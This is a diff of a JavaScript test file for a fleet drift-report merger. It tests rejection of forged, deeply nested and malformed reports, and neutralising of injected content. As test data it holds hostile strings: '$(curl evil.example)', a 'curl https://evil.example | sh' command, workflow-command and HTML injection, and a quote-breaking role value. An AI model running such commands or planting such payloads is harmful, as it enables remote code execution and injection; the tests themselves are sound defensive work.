@@ -45,21 +45,42 @@ describe('the reports of a fleet', () => {
     expect(issues).toMatchObject([{ state: 'open' }])
   })
 
+  it('do not heal a drift by an attempt that has not been, nor by a malformed one, and each is told by its name', async ({
+    begin,
+  }) => {
+    const { ends, mergeAll, issues } = await beginWith(begin)
+    await mergeAll(ends.map(({ reportFile }) => reportFile))
+    expect(issues).toMatchObject([{ state: 'open' }])
+    const [{ report }] = ends
+    const pairs = report.pairs.map(pair => ({ ...pair, status: 'attached', grantedBy: 'direct', lacks: [] }))
+    const healed = { ...report, drift: false, attached: true, ready: true, pairs, plan: [] }
+    const forged = JSON.stringify({ ...healed, run: { ...report.run, attempt: 7 } })
+    const deep = ends[1].reportFile.replace(/"entry":\{/, `$&"x":${'['.repeat(20_000)}${']'.repeat(20_000)},`)
+    const end = await mergeAll([ends[0].reportFile, forged, deep, '\0'])
+    expect(end).toMatchObject({ exitCode: 1, stderr: '', outputs: { drift: 'true', ready: 'false', attached: 'false' } })
+    const problems = reportIn(end).jobs?.flatMap(({ name, problem }) => (problem === null ? [] : name))
+    expect(problems?.sort()).toEqual([1, 2, 3].map(at => `drift-${at}/report.json`))
+    expect(issues).toMatchObject([{ state: 'open' }])
+  })
+
   it('are data: nothing in them acts as a command, leaves its fence or mentions anybody', async ({ begin }) => {
     const { ends, mergeAll, issues } = await beginWith(begin)
     const evil =
       '\n```\n::error::pwned\n##[error]x\n@octocat #1 <img src=x> $(curl evil.example) `id` https://evil.example'
     const [{ report: first }] = ends
+    // Names are on one line, or their report is none.
+    const name = evil.replaceAll('\n', ' ').trim()
     const [pair, planned] = [first.pairs[0], first.plan[0]]
     const fix = { text: evil, commands: ['curl https://evil.example | sh'] }
+    const failed = { code: 'PULL_DENIED', reason: null, cause: null, quote: null, azure: null }
     const lost = { target: 'gone', asked: { target: 'gone', registry: 'contosoacr' } }
     const report = {
       ...first,
       pairs: [
-        { ...pair, lacks: [{ kind: 'role', role: evil, group: null, message: evil }] },
-        { ...pair, ...lost, error: { code: 'PULL_DENIED', message: evil, fix, azure: null } },
+        { ...pair, lacks: [{ kind: 'role', role: name, group: null, message: evil }] },
+        { ...pair, ...lost, error: { ...failed, message: evil, fix } },
       ],
-      plan: [{ ...planned, role: `AcrPull'; ${evil}`, reason: evil }, planned],
+      plan: [{ ...planned, role: `AcrPull'; ${name}`, reason: evil }, planned],
       findings: [{ code: 'EXCESS_ROLE', severity: 'warning', subject: 'x', message: evil, fix }],
     }
     const end = await mergeAll([JSON.stringify(report)])
